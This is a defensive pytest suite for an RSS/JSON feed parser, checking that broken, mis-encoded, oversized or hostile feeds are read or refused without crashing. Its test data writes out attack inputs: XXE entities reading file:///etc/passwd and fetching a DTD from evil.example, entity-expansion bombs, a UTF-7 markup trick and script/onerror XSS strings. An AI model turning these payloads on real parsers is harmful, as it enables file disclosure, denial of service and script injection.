"""Feeds as strangers serve them: cut off, in wrong charsets, stuffed, bombs; each is read or refused, never a crash."""

from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from resonanz.connect.contract import Context, Mention, PayloadChanged, RawItem
from resonanz.connectors.rss import CONNECTOR
from resonanz.connectors.rss.decode import MAX_ENTRIES, MAX_TAGS
from resonanz.connectors.rss.parse import Feed, parse_feed
from resonanz.connectors.rss.read import native_id
from resonanz.core.mention import MAX_TEXT
from tests.connectors.wire import captured

SEEN = datetime(2026, 11, 1, 12, tzinfo=UTC)
FEED = "https://paketbote.example/feed.xml"


def rss(items: str, head: str = '<?xml version="1.0" encoding="utf-8"?>') -> str:
    return f'{head}<rss version="2.0"><channel><title>T</title>{items}</channel></rss>'


def item(number: int = 1, inside: str = "") -> str:
    return f"<item><guid>urn:x:{number}</guid><title>Größe {number}</title>{inside}</item>"


def titles(feed: Feed) -> list[object]:
    return [entry.get("title") for entry in feed.entries]


def mention_of(feed: Feed) -> Mention:
    entry = feed.entries[0]
    raw = RawItem(native_id=native_id(entry, FEED), form=feed.form, payload=entry, seen_at=SEEN)
    found = CONNECTOR.normalise(raw, Context(source="paketbote"))
    assert isinstance(found, Mention)
    return found


@pytest.mark.parametrize(
    ("charset", "declared"),
    [
        ("utf-8", "iso-8859-1"),
        ("utf-8", "windows-1252"),
        ("utf-8", "utf-16"),
        ("utf-8", "no-such-charset"),
        ("utf-8", "zlib"),
        ("utf-8-sig", "us-ascii"),
        ("iso-8859-1", "utf-8"),
        ("iso-8859-1", "us-ascii"),
        ("windows-1252", "iso-8859-1"),
        ("iso-8859-15", "iso-8859-15"),
        ("mac-roman", "macintosh"),
        ("utf-16", "utf-16"),
        ("utf-16-le", "utf-16"),
        ("utf-16-be", "utf-8"),
        ("utf-32", "utf-8"),
    ],
)
def test_a_charset_is_found_also_where_it_is_wrongly_declared(charset: str, declared: str) -> None:
    body = rss(item(), f'<?xml version="1.0" encoding="{declared}"?>').encode(charset)
    assert titles(parse_feed(body)) == ["Größe 1"]


def test_the_server_may_know_the_charset_better() -> None:
    body = rss("<item><title>Привет</title></item>", "").encode("koi8-r")
    assert titles(parse_feed(body, content_type="application/rss+xml; charset=koi8-r")) == ["Привет"]


def test_a_charset_that_hides_markup_is_not_used() -> None:
    body = b'<?xml version="1.0" encoding="utf-7"?>+ADw-!DOCTYPE x+AD4-' + rss(item(), "").encode()
    assert titles(parse_feed(body)) == ["Größe 1"]


@pytest.mark.parametrize(
    "document_type",
    [
        "<!DOCTYPE rss [<!ENTITY a 'x'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>]>",
        "<!DOCTYPE rss [<!ENTITY file SYSTEM 'file:///etc/passwd'>]>",
        "<!DOCTYPE rss [<!ENTITY % out SYSTEM 'http://evil.example/x.dtd'> %out;]>",
        "<!-- x --><!DOCTYPE rss [ <!-- ] --> <!ENTITY a 'x'>]>",
        "<!DOCTYPE rss [<!ENTITY a 'x'",
    ],
)
@pytest.mark.parametrize("charset", ["utf-8", "utf-16"])
def test_entities_of_a_feeds_own_are_never_resolved(document_type: str, charset: str) -> None:
    body = rss("<item><title>&a;&file;</title></item>", f"<?xml version='1.0'?>{document_type}").encode(charset)
    try:
        feed = parse_feed(body)
    except PayloadChanged:
        return
    assert "root:" not in json.dumps(feed.entries)
    assert "xx" not in json.dumps(feed.entries)


def test_a_bomb_of_entities_is_named() -> None:
    body = rss(item(), "<!DOCTYPE rss [<!ENTITY a 'x'>]>").encode()
    with pytest.raises(PayloadChanged, match="entities"):
        parse_feed(body)


def test_a_document_type_without_entities_does_no_harm() -> None:
    head = '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/rss-0.91.dtd">'
    assert titles(parse_feed(rss(item(), head).encode())) == ["Größe 1"]


def test_an_article_about_entities_is_no_bomb() -> None:
    body = rss("<item><title>x</title><description><![CDATA[<!DOCTYPE a [<!ENTITY b 'c'>]>]]></description></item>")
    assert len(parse_feed(body.encode()).entries) == 1


def test_names_that_only_html_knows_are_read() -> None:
    assert titles(parse_feed(rss("<item><title>Gr&uuml;n &amp; &copy; &lt;</title></item>").encode())) == ["Grün & © <"]


@pytest.mark.parametrize("missing", range(1, 70, 3))
def test_a_feed_that_breaks_off_gives_its_whole_entries(missing: int) -> None:
    whole = rss(item(1) + item(2) + item(3, "<description>long enough to be cut in</description>"))
    body = whole.encode()[: -len("</channel></rss>") - missing]
    feed = parse_feed(body)
    assert (titles(feed), feed.broke_off) == (["Größe 1", "Größe 2"], True)


def test_a_feed_that_breaks_off_in_its_first_entry_gives_nothing_wrong() -> None:
    feed = parse_feed(rss(item(1)).encode()[:110])
    assert (feed.entries, feed.broke_off) == ((), True)


def test_a_million_entries_are_bounded_and_counted() -> None:
    feed = parse_feed(rss("<item/>" * 1_000_000).encode())
    assert len(feed.entries) <= MAX_ENTRIES
    assert feed.surplus == 1_000_000 - MAX_ENTRIES


def test_the_first_entries_of_a_long_feed_are_read() -> None:
    feed = parse_feed(rss("".join(map(item, range(MAX_ENTRIES + 5)))).encode())
    assert (len(feed.entries), titles(feed)[-1], feed.surplus) == (MAX_ENTRIES, f"Größe {MAX_ENTRIES - 1}", 5)


def test_an_entry_stuffed_with_tags_is_refused() -> None:
    with pytest.raises(PayloadChanged, match="tags"):
        parse_feed(rss(f"<item>{'<x/>' * MAX_TAGS}</item>").encode())


def test_tags_nested_a_hundred_thousand_deep_do_no_harm() -> None:
    body = rss(f"<item><title>x</title><description>{'<b>' * 100_000}</description></item>").encode()
    try:
        parse_feed(body)
    except PayloadChanged:
        return


@pytest.mark.parametrize("junk", [b"<b>", b"<a ", b'<a b="', b"&", b"</", b"<![CDATA[", b"&#x", b"<rdf:RDF>"])
def test_ten_megabytes_of_junk_are_refused_at_once(junk: bytes) -> None:
    with pytest.raises(PayloadChanged):
        parse_feed(junk * (10_000_000 // len(junk)))


def test_an_article_of_ten_megabytes_is_cut() -> None:
    feed = parse_feed(rss(f"<item><description>{'ä' * 5_000_000}</description></item>").encode())
    assert len(mention_of(feed).text) == MAX_TEXT


@pytest.mark.parametrize(
    "body",
    [b"", b" \n", b"hello", b"/etc/passwd", b"https://example.org/feed", b"<html><body>x</body></html>", b"<x/>",
     b"\x00", b"{}", b'{"items": {}}', b"[]", b"null", b"{", b"\xff\xfe", b"%PDF-1.7", b"PK\x03\x04"],
)  # fmt: skip
def test_what_is_no_feed_says_so(body: bytes) -> None:
    with pytest.raises(PayloadChanged):
        parse_feed(body)


def test_a_web_page_is_told_from_a_feed() -> None:
    with pytest.raises(PayloadChanged, match="address of its feed"):
        parse_feed(b"<!DOCTYPE html><html><head><title>x</title></head><body>y</body></html>")


def test_a_feed_without_entries_is_a_feed() -> None:
    assert parse_feed(rss("").encode()).entries == ()


@pytest.mark.parametrize(
    ("said", "published"),
    [
        ("Sat, 31 Oct 2026 09:15:00 +0100", datetime(2026, 10, 31, 8, 15, tzinfo=UTC)),
        ("2026-10-31T09:15:00Z", datetime(2026, 10, 31, 9, 15, tzinfo=UTC)),
        ("Sat, 31 Oct 2026 09:15:00", SEEN),
        ("2026-10-31 09:15", SEEN),
        ("Fri, 31 Dec 9999 23:59:59 GMT", SEEN),
        ("0000-00-00T00:00:00Z", SEEN),
        ("Thu, 01 Jan 1970 00:00:00 GMT", SEEN),
        ("yesterday", SEEN),
    ],
)
def test_a_date_is_believed_only_where_it_can_be(said: str, published: datetime) -> None:
    assert mention_of(parse_feed(rss(item(1, f"<pubDate>{said}</pubDate>")).encode())).published_at == published


def test_scripts_in_every_field_become_text_or_nothing() -> None:
    evil = "&lt;script&gt;evil()&lt;/script&gt;&lt;img src=x onerror=evil()&gt;x"
    fields = "".join(f"<{name}>{evil}</{name}>" for name in ("title", "description", "link", "author", "category"))
    found = mention_of(parse_feed(rss(f"<item><guid>urn:x:1</guid>{fields}</item>").encode()))
    assert (found.title, found.text, found.url) == ("x", "x", None)


def test_an_item_of_a_json_feed_that_is_no_object_costs_no_other() -> None:
    feed = parse_feed(json.dumps({"items": [None, {"id": "urn:x:1", "content_text": "x"}, "y", 7]}).encode())
    raws = [RawItem(native_id="1", form=feed.form, payload=entry, seen_at=SEEN) for entry in feed.entries]
    assert [outcome_of(raw) for raw in raws] == ["Skip", "Mention", "Skip", "Skip"]


def test_an_id_that_is_only_unique_within_its_feed_is_joined_with_it() -> None:
    entry = {"id": "1", "title": "x"}
    assert native_id(entry, "https://a.example/") != native_id(entry, "https://b.example/")


def test_an_id_that_is_unique_everywhere_is_the_same_from_every_feed() -> None:
    entry = {"id": "https://a.example/1"}
    assert native_id(entry, "https://a.example/") == native_id(entry, "https://b.example/") == "https://a.example/1"


def test_an_entry_without_id_is_known_by_its_link() -> None:
    assert native_id({"link": "https://a.example/1", "title": "x"}, FEED) == "https://a.example/1"


def test_an_entry_with_neither_keeps_its_identity_from_look_to_look() -> None:
    entry = {"title": "x", "summary": "y"}
    assert native_id(entry, FEED) == native_id(dict(entry), FEED) != native_id({**entry, "summary": "z"}, FEED)


@pytest.mark.parametrize("id_", ["x" * 5_000, "https://a.example/" + "x" * 5_000, "a\x00b\n", "\ud800"])
def test_an_absurd_id_becomes_a_short_one(id_: str) -> None:
    assert len(native_id({"id": id_}, FEED)) <= 500


@settings(deadline=None)
@given(st.binary(max_size=300))
def test_no_bytes_crash_it(body: bytes) -> None:
    try:
        parse_feed(body)
    except PayloadChanged:
        return


@settings(deadline=None)
@given(st.text(st.sampled_from("<>/!?[]&;#x\"'= -itemrsDOCTYPENLA"), max_size=120))
def test_no_markup_crashes_it(inside: str) -> None:
    try:
        parse_feed(rss(item(1, inside)).encode())
    except PayloadChanged:
        return


def outcome_of(raw: RawItem) -> str:
    try:
        return type(CONNECTOR.normalise(raw, Context(source="x"))).__name__
    except PayloadChanged:
        return "refused"


@pytest.mark.parametrize("folder", ["feeds_feedparser", "feeds_miniflux", "granary"])
def test_captured_feeds_are_read_without_a_crash(folder: str) -> None:
    outcomes = []
    for path in sorted(captured(folder).rglob("*")):
        if path.suffix not in (".xml", ".json", ".html"):
            continue
        try:
            feed = parse_feed(path.read_bytes(), base=FEED)
        except PayloadChanged:
            outcomes.append("refused")
            continue
        for entry in feed.entries:
            raw = RawItem(native_id=native_id(entry, FEED), form=feed.form, payload=entry, seen_at=SEEN)
            outcomes.append(outcome_of(raw))
    assert "Mention" in outcomes
    assert set(outcomes) <= {"Mention", "Skip", "refused"}


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("parser_testdata_encoding_WINDOWS-1251.xml", "Цитата #17703"),
        ("encoding_testdata_koi8r.xml", "Первая новость"),
        ("encoding_testdata_utf8-incorrect-prolog.xml", "Café"),
        ("encoding_testdata_invalid-prolog.xml", "Café"),
        ("parser_testdata_rdf_UTF8.xml", "OLED-TVs: Vorsichtsmaßnahmen gegen Einbrennen"),
    ],
)
def test_captured_charsets_are_read_rightly(name: str, title: str) -> None:
    assert titles(parse_feed((captured("feeds_miniflux") / name).read_bytes()))[0] == title
